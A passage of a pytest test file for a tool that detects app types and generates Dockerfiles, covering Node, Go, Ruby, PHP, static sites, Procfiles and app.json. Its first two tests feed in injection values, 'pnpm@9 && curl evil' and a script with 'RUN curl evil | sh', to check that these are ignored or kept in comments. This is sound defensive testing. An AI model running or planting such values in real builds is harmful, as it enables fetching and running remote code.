    detection = found(tmp_path, {"package.json": pkg(packageManager="pnpm@9 && curl evil", scripts={"start": "x"})})
    assert detection.build["tool"] == "pnpm@8.15.9"
    assert "packageManager version '9 && curl evil' ignored: not a version" in detection.warnings


def test_app_controlled_text_stays_in_comments(tmp_path):
    detection = found(tmp_path, {"package.json": pkg(scripts={"start": "node s.js\nRUN curl evil | sh"})})
    text = d.generate(detection)
    assert not any(line.startswith("RUN curl") for line in text.splitlines())
    assert [i for i in final_stage(text).instructions if isinstance(i, Run) and "evil" in " ".join(i.command)] == []


# -- go -----------------------------------------------------------------------------------------------------------

GO_MAIN = "package main\n\nfunc main() {}\n"


def test_go_with_modules_downloads_first(tmp_path):
    detection = found(tmp_path, {"go.mod": "module github.com/acme/api/v2\n\ngo 1.19\n\nrequire (\n\tx v1\n)\n",
                                 "go.sum": "", "main.go": GO_MAIN})
    assert detection.web == "api"
    text = check_dockerfile(detection)
    assert "COPY go.mod go.sum ./\nRUN --mount=type=cache,target=/go/pkg/mod \\\n    go mod download" in text
    assert ('CGO_ENABLED=0 go build -buildvcs=false -trimpath -ldflags="-s -w" -o /out/api .' in text)
    assert "--mount=type=cache,target=/root/.cache/go-build" in text
    parsed = parse_dockerfile(text)
    assert [s.image for s in parsed] == ["paas/stack-go:bookworm", "paas/stack-base:bookworm"]
    final = parsed.stages[-1].instructions
    assert [(i.sources, i.dest, i.from_) for i in final if isinstance(i, Copy)] == [(("/out/",), "/app/bin/", "build")]


def test_go_without_modules_or_vendored_downloads_nothing(tmp_path):
    detection = found(tmp_path / "a", {"go.mod": "module hello\n\ngo 1.18\n", "main.go": GO_MAIN})
    assert "no external modules (no require in go.mod): nothing to download" in detection.reasons
    assert "go mod download" not in d.generate(detection)
    assert detection.warnings == ()  # go 1.18 is a minimum: 1.19 builds it
    detection = found(tmp_path / "b", {"go.mod": "module hello\n\ngo 1.19\nrequire x v1\n", "go.sum": "",
                                       "vendor/modules.txt": "", "main.go": GO_MAIN})
    text = d.generate(detection)
    assert "go mod download" not in text and "go build -mod=vendor " in text


def test_go_commands_directory(tmp_path):
    detection = found(tmp_path, {"go.mod": "module example.com/shop\n", "cmd/server/main.go": GO_MAIN,
                                 "cmd/migrate/main.go": GO_MAIN, "cmd/lib/lib.go": "package lib\n"})
    assert detection.web == "server"
    assert "builds /app/bin/migrate (./cmd/migrate), /app/bin/server (./cmd/server)" in detection.reasons
    text = check_dockerfile(detection, dependencies=False)
    assert "-o /out/migrate ./cmd/migrate \\\n    && CGO_ENABLED=0 go build" in text
    assert "-o /out/server ./cmd/server\n" in text


def test_go_warnings(tmp_path):
    detection = found(tmp_path, {"go.mod": "module x\n\ngo 1.22\n\nrequire y v1\n", "cmd/a/main.go": GO_MAIN,
                                 "cmd/b/main.go": GO_MAIN})
    assert detection.web is None
    text = " | ".join(detection.warnings)
    assert "go 1.22" not in text  # go 1.24 on trixie has it
    assert (detection.base_image, detection.runtime_image) == ("paas/stack-go:trixie", "paas/stack-base:trixie")
    assert "no go.sum" in text and "several main packages (a, b) and none is named x, web or server" in text


def test_go_configured_stacks(tmp_path):
    detection = found(tmp_path, {"go.mod": "module x\n", "main.go": GO_MAIN},
                      stacks={"go": "reg/go:1.22", "base": "reg/distroless"})
    assert (detection.base_image, detection.runtime_image) == ("reg/go:1.22", "reg/distroless")


# -- ruby, php, static --------------------------------------------------------------------------------------------

def test_ruby_rack(tmp_path):
    detection = found(tmp_path, {"Gemfile": "source 'https://rubygems.org'\nruby '3.1.2'\ngem 'sinatra'\n",
                                 "Gemfile.lock": "GEM\n  specs:\n    sinatra (3.0.0)\n", "config.ru": "run App\n"})
    assert (detection.framework, detection.web) == ("rack", "bundle exec rackup -p $PORT -o 0.0.0.0")
    assert (detection.version.requested, detection.version.source) == ("3.1.2", "Gemfile ruby")
    text = check_dockerfile(detection)
    assert "COPY Gemfile Gemfile.lock ./" in text and "BUNDLE_FROZEN=true bundle install" in text


def test_ruby_rails(tmp_path):
    detection = found(tmp_path, {"Gemfile": "gem \"rails\", \"~> 7.0\"\n", "config.ru": "",
                                 ".ruby-version": "ruby-3.3.0\n"})
    assert (detection.framework, detection.web) == ("rails", "bundle exec rails server -b 0.0.0.0 -p $PORT")
    assert "no Gemfile.lock: bundler resolves the gems at build time; commit Gemfile.lock" in detection.warnings
    assert "ruby 3.3 on trixie (3.3.0 requested in .ruby-version; bookworm has 3.1)" in detection.reasons
    assert "BUNDLE_FROZEN" not in check_dockerfile(detection)


def test_php_composer_and_document_root(tmp_path):
    detection = found(tmp_path, {"composer.json": json.dumps({"require": {"php": ">=8.3"}}), "composer.lock": "{}",
                                 "public/index.php": "<?php echo 'hi';"})
    assert detection.web == "php -S 0.0.0.0:$PORT -t public"
    assert "document root: public/ (it holds index.php); web: `php -S 0.0.0.0:$PORT -t public`" in detection.reasons
    assert "php 8.4 on trixie (>=8.3 requested in composer.json require.php; bookworm has 8.2)" in detection.reasons
    text = check_dockerfile(detection)
    assert "COPY composer.json composer.lock ./" in text and "composer install --no-dev" in text
    assert "composer dump-autoload --no-dev" in text


def test_php_without_composer(tmp_path):
    detection = found(tmp_path, {"index.php": "<?php echo 'hi';"})
    assert (detection.web, detection.package_manager) == ("php -S 0.0.0.0:$PORT -t .", None)
    text = check_dockerfile(detection, dependencies=False)
    assert "composer" not in text


def test_static_public_directory(tmp_path):
    detection = found(tmp_path, {"public/index.html": "", "public/app.css": ""})
    assert detection.web == "start-nginx"
    assert detection.base_image == "paas/stack-nginx:bookworm"
    text = check_dockerfile(detection, dependencies=False)
    assert "        root /app/public;\n" in text and "useradd" not in text


# -- Procfile -----------------------------------------------------------------------------------------------------

def test_parse_procfile():
    text = "# processes\n\nweb: gunicorn app:app --bind 0.0.0.0:$PORT\nworker:python worker.py  \nrelease : ./migrate\n"
    assert d.parse_procfile(text) == {"web": "gunicorn app:app --bind 0.0.0.0:$PORT", "worker": "python worker.py",
                                      "release": "./migrate"}
    assert d.parse_procfile("") == {}


@pytest.mark.parametrize(("text", "message"), [
    ("web: ok\nthis is not a process\n", "Procfile:2: cannot read 'this is not a process'"),
    ("\n\nweb:\n", "Procfile:3: process type 'web' has no command"),
    ("web: a\n# c\nweb: b\n", "Procfile:3: process type 'web' is defined twice (first on line 1)"),
    ("we b: x\n", "Procfile:1: cannot read 'we b: x'"),
])
def test_procfile_errors_name_the_line(text, message):
    with pytest.raises(UserError) as caught:
        d.parse_procfile(text)
    assert caught.value.message == message


def test_procfile_wins_and_merges_with_the_detected_web(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "flask\ngunicorn\n", "app.py": FLASK_APP,
                                 "Procfile": "worker: python worker.py\n"})
    assert list(detection.processes.items()) == [("web", "gunicorn app:app --bind 0.0.0.0:$PORT"),
                                                 ("worker", "python worker.py")]
    (tmp_path / "Procfile").write_text("web: gunicorn -w 4 app:app\nclock: python clock.py\n")
    detection = d.detect(tmp_path)
    assert dict(detection.processes) == {"web": "gunicorn -w 4 app:app", "clock": "python clock.py"}
    assert ("Procfile: web, clock (its web replaces the detected `gunicorn app:app --bind 0.0.0.0:$PORT`)"
            in detection.reasons)
    assert 'CMD ["sh", "-c", "exec gunicorn -w 4 app:app"]' in check_dockerfile(detection)


def test_procfile_servers_are_installed_when_missing(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "starlette\n", "Procfile": "web: uvicorn api:app --port $PORT\n"})
    assert detection.build["servers"] == ["uvicorn"]


def test_procfile_without_web_gives_cmd_from_another_process(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "", "Procfile": "release: ./migrate\nworker: python w.py\n"})
    assert 'CMD ["sh", "-c", "exec python w.py"]' in d.generate(detection)
    assert not any(w.startswith("no web process") for w in detection.warnings)  # a worker-only app is fine
    (tmp_path / "Procfile").write_text("release: ./migrate\n")
    detection = d.detect(tmp_path)
    assert any(w.startswith("no web process") for w in detection.warnings)
    assert "\nCMD " not in d.generate(detection)


def test_compound_commands_are_not_execed(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "", "Procfile": "web: cd src && python -m http.server $PORT\n"})
    assert 'CMD ["sh", "-c", "cd src && python -m http.server $PORT"]' in d.generate(detection)


def test_procfile_errors_come_out_of_detect(tmp_path):
    with pytest.raises(UserError, match=r"^Procfile:1: cannot read"):
        found(tmp_path, {"requirements.txt": "", "Procfile": "nonsense\n"})


# -- app.json -----------------------------------------------------------------------------------------------------

APP_JSON = {"healthchecks": {"web": [{"type": "startup", "path": "/health", "attempts": 5}]},
            "scripts": {"dokku": {"predeploy": "python manage.py migrate", "postdeploy": "./notify"}}}


def test_app_json(tmp_path):
    detection = found(tmp_path, {"index.html": "", "app.json": json.dumps(APP_JSON)})
    a = detection.app_json
    assert a.found and a.predeploy == "python manage.py migrate" and a.postdeploy == "./notify"
    assert a.healthchecks == {"web": ({"type": "startup", "path": "/health", "attempts": 5},)}
    assert ("app.json: health checks for web, predeploy `python manage.py migrate`, postdeploy `./notify`"
            in detection.reasons)
    assert detection.to_dict()["app_json"]["healthchecks"]["web"][0]["path"] == "/health"


def test_without_app_json(tmp_path):
    assert found(tmp_path, {"index.html": ""}).app_json == d.AppJson()


@pytest.mark.parametrize(("data", "message"), [
    ([], "app.json: must hold a JSON object"),
    ({"healthchecks": []}, "app.json: healthchecks must map process types to lists of checks"),
    ({"healthchecks": {"web": {"path": "/"}}}, "app.json: healthchecks.web must be a list of objects"),
    ({"scripts": {"dokku": {"predeploy": ["a"]}}}, "app.json: scripts.dokku.predeploy must be a command string"),
])
def test_app_json_errors(data, message):
    with pytest.raises(UserError) as caught:
        d.parse_app_json(data)
    assert caught.value.message == message


def test_app_json_invalid_json_names_the_line(tmp_path):
    with pytest.raises(UserError, match=r"^app.json:2: invalid JSON"):
        found(tmp_path, {"index.html": "", "app.json": "{\n  'x': 1\n}"})


def test_app_json_ignores_what_we_do_not_use(tmp_path):
    detection = found(tmp_path, {"index.html": "", "app.json": json.dumps({"name": "x", "env": {}})})
    assert detection.app_json.found and "app.json: nothing we use" in detection.reasons


# -- generation ---------------------------------------------------------------------------------------------------

def test_every_buildpack_has_rules_and_a_template():
    for detector in d.DETECTORS[1:]:
        if detector.__name__ == "sources":  # source files without a manifest: built by their language's buildpack
            continue
        folder = d.BUILDPACKS_DIR / detector.__name__
        assert (folder / "Dockerfile.j2").is_file() and d.spec(detector.__name__)["select"]


def test_templates_are_strict(tmp_path):
    detection = found(tmp_path, {"index.html": ""})
    broken = d.Detection(**{**detection.__dict__, "build": {k: v for k, v in detection.build.items() if k != "root"
                                                             and k != "port"}})
    with pytest.raises(Exception, match="port"):
        d.generate(broken)


def test_generated_header_explains_the_decision(tmp_path):
    text = d.generate(found(tmp_path, {"requirements.txt": "flask\n", "app.py": FLASK_APP}))
    head = text.split("\nFROM ", 1)[0]
    assert head.startswith("# Generated by paas: python buildpack (buildpacks/python/Dockerfile.j2).\n")
    assert "#   Flask: flask in requirements.txt, app.py defines app = Flask(...)\n" in head
    assert all(line.startswith("#") or not line for line in head.splitlines())
    assert "\n\n\n" not in text and text.endswith("\n")


def test_app_json_formation_is_among_the_reasons():
    reasons = d.detect(APPS / "formation-json").reasons
    assert "app.json: health checks for web, worker, formation web=1 worker=2" in reasons
